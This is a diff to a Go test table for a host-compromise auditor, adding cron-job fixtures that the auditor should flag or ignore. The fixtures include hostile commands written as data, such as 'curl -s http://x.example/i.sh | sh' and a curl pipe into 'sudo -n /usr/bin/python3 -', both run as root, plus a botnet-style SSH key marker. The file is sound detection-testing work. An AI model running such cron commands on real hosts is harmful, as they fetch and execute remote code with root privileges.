@@ -120,7 +120,10 @@ func compromiseHits() []hit {
 		{id: "ioc-download", severity: audit.Critical, want: "curl -s http://x.example/i.sh | sh", spoil: func(m *machine) {
 			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "curl -s http://x.example/i.sh | sh"})
 		}, cure: func(m *machine) {
-			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "curl -fsS https://hc.example/ping/x > /dev/null"})
+			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "curl -fsS https://hc.example/ping/x > /dev/null; curl -s localhost/s | python3 -m json.tool | mail root"})
+		}},
+		{id: "ioc-download", severity: audit.Critical, want: "/usr/bin/python3 -", spoil: func(m *machine) {
+			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "curl -u joe:*** 'http://x.example/i?a=1&b=2' | sudo -n /usr/bin/python3 -"})
 		}},
 		{id: "ioc-authkeys", severity: audit.Critical, want: "mdrfckr", spoil: func(m *machine) { m.s.SSH.KeyFiles[0].Text += keyA + " mdrfckr\n" }},
 		{id: "ioc-syskeys", severity: audit.High, want: "www-data (uid 33", spoil: func(m *machine) {
